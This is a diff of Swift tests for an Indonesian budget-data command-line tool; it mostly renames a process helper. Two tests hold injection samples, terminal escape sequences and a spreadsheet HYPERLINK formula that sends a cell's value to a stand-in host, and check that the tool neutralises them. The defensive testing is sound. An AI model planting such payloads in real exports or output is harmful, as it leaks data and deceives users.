@@ -1,5 +1,6 @@
 import Foundation
 import Model
+import GudangBerkas
 import Testing
 #if canImport(Glibc)
 import Glibc
@@ -47,15 +48,15 @@ import Glibc
 
     // 2. report/export never write over the data file, its backup or a recovery copy.
     @Test func reportAndExportRefuseTheDataFile() throws {
-        #expect(try Proses.jalankan(["set", data, "2.1.4", "--target", "80"]).keluar == 0)
+        #expect(try Proses.perintah(["set", data, "2.1.4", "--target", "80"]).keluar == 0)
         symlink(data, folder.path + "/lain.json")
         link(data, folder.path + "/keras.json")
         let before = try bytes(data), backup = try bytes(data + ".bak")
         for out in [data, data + ".bak", folder.path + "/lain.json", folder.path + "/keras.json", data + ".pulih.1-2"] {
-            let r = try Proses.jalankan(["report", data, "anggaran", "--format", "csv", "-o", out])
+            let r = try Proses.perintah(["report", data, "anggaran", "--format", "csv", "-o", out])
             #expect(r.keluar == 1, "\(out)")
             #expect(r.stderr.contains("ini berkas data \(data) sendiri"))
-            #expect(try Proses.jalankan(["export", data, "-o", out]).keluar == 1)
+            #expect(try Proses.perintah(["export", data, "-o", out]).keluar == 1)
         }
         #expect(try bytes(data) == before)
         #expect(try bytes(data + ".bak") == backup)
@@ -67,11 +68,11 @@ import Glibc
         let slip = folder.appendingPathComponent("salah.json").path
         let first = try #require(text.range(of: "\"realisasi\": 8"))
         try text.replacingCharacters(in: first, with: "\"realisai\": 8").write(toFile: slip, atomically: true, encoding: .utf8)
-        let r = try Proses.jalankan(["check", slip])
+        let r = try Proses.perintah(["check", slip])
         #expect(r.keluar == 1)
         #expect(r.stderr == "kinerja: \(slip): program[0].kegiatan[1].tertulis.realisai (baris 372, kolom 13): kolom 'realisai' tidak dikenal; maksud Anda 'realisasi'? kolom yang dikenal di sini: pagu, realisasi, usang. Perbaiki atau hapus kolom itu: kinerja tidak menyimpan yang tidak dikenalnya\n")
         let generated = folder.appendingPathComponent("gen.json").path
-        #expect(try Proses.jalankan(["gen", "--sub-kegiatan", "200", "-o", generated]).keluar == 0)
+        #expect(try Proses.perintah(["gen", "--sub-kegiatan", "200", "-o", generated]).keluar == 0)
         let tool = Proses.root.appendingPathComponent("tools/check_schema.py").path
         let env = ProcessInfo.processInfo.environment
         let ok = try Proses.jalankan(["python3", tool, data, generated], env: env, program: "/usr/bin/env")
@@ -85,7 +86,7 @@ import Glibc
     @Test func setRefusesAWriteProtectedFile() throws {
         chmod(data, 0o444)
         let before = try bytes(data)
-        let r = try Proses.jalankan(["set", data, "2.1.4", "--target", "80"])
+        let r = try Proses.perintah(["set", data, "2.1.4", "--target", "80"])
         #expect(r.keluar == 1)
         #expect(r.stderr.contains("berkas dilindungi dari penulisan; tidak diubah"))
         #expect(try bytes(data) == before)
@@ -110,7 +111,7 @@ import Glibc
         #expect(info.st_mode & 0o777 == 0o600)
         chmod(data, 0o640)
         let md = folder.appendingPathComponent("out.md").path
-        #expect(try Proses.jalankan(["report", data, "anggaran", "--format", "md", "-o", md]).keluar == 0)
+        #expect(try Proses.perintah(["report", data, "anggaran", "--format", "md", "-o", md]).keluar == 0)
         stat(md, &info)
         #expect(info.st_mode & 0o777 == 0o640)
     }
@@ -131,16 +132,16 @@ import Glibc
                 #expect(!out.unicodeScalars.contains { TeksAman.berbahaya($0) && $0 != "\n" && $0 != "\t" }, "\(args)")
             }
         }
-        #expect(try Proses.jalankan(["show", data, "1.06.06.2.01.03"]).stdout.contains("Penyediaan?]0;pwned??[2J?6n?kiri"))
+        #expect(try Proses.perintah(["show", data, "1.06.06.2.01.03"]).stdout.contains("Penyediaan?]0;pwned??[2J?6n?kiri"))
         // An error message quoting a name (a duplicate code) is neutralised too.
         let dup = text.replacingOccurrences(of: "\"kode\": \"1.06.06.2.01.02\"", with: "\"kode\": \"1.06.06.2.01.03\"")
         try dup.write(toFile: data, atomically: true, encoding: .utf8)
-        let e = try Proses.jalankan(["check", data])
+        let e = try Proses.perintah(["check", data])
         #expect(e.keluar == 1)
         #expect(!e.stderr.unicodeScalars.contains { TeksAman.berbahaya($0) && $0 != "\n" })
         try text.write(toFile: data, atomically: true, encoding: .utf8)
         for excel in [false, true] {
-            let csv = try Proses.jalankan(["report", data, "anggaran", "--format", "csv"] + (excel ? ["--excel-id"] : [])).stdout
+            let csv = try Proses.perintah(["report", data, "anggaran", "--format", "csv"] + (excel ? ["--excel-id"] : [])).stdout
             #expect(csv.contains("\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"klik\"\")\""))
             #expect(!csv.contains("\"=HYPERLINK"))
         }
@@ -148,26 +149,26 @@ import Glibc
 
     // 15. Negative values after the option, and the ambiguous 1.5000.
     @Test func negativeValuesAndAmbiguousPoints() throws {
-        let r = try Proses.jalankan(["set", data, "2.1.4", "--target", "-5"])
+        let r = try Proses.perintah(["set", data, "2.1.4", "--target", "-5"])
         #expect(r.keluar == 0)
         #expect(r.stdout.hasPrefix("2.1.4 indikator 4 target tahunan: 78 -> -5\n"))
         let before = try bytes(data)
-        let a = try Proses.jalankan(["set", data, "2.1.4", "--target", "1.5000"])
+        let a = try Proses.perintah(["set", data, "2.1.4", "--target", "1.5000"])
         #expect(a.keluar == 1)
         #expect(a.stderr == "kinerja: nilai '1.5000': meragukan: desimal pakai koma (1,5), ribuan berkelompok tiga (15.000); berkas tidak diubah\n")
         #expect(try bytes(data) == before)
         let fifo = folder.appendingPathComponent("pipa.json").path
         mkfifo(fifo, 0o600)
-        let f = try Proses.jalankan(["check", fifo])
+        let f = try Proses.perintah(["check", fifo])
         #expect(f.keluar == 1)
         #expect(f.stderr.contains("bukan berkas biasa (folder, FIFO atau perangkat)"))
     }
 
     // 16. show: a blank budget realisation is blank, null in json.
     @Test func showKeepsABlankBudgetBlank() throws {
-        let text = try Proses.jalankan(["show", data, "1.06.04.2.02.05"]).stdout
+        let text = try Proses.perintah(["show", data, "1.06.04.2.02.05"]).stdout
         #expect(text.contains("  Realisasi s.d. TW IV                     -\n"))
-        let json = try Proses.jalankan(["show", data, "1.06.04.2.02.05", "--format", "json"]).stdout
+        let json = try Proses.perintah(["show", data, "1.06.04.2.02.05", "--format", "json"]).stdout
         let object = try JSONSerialization.jsonObject(with: Data(json.utf8)) as! [String: Any]
         let budget = object["anggaran"] as! [String: Any]
         #expect(budget["realisasi"] is NSNull)
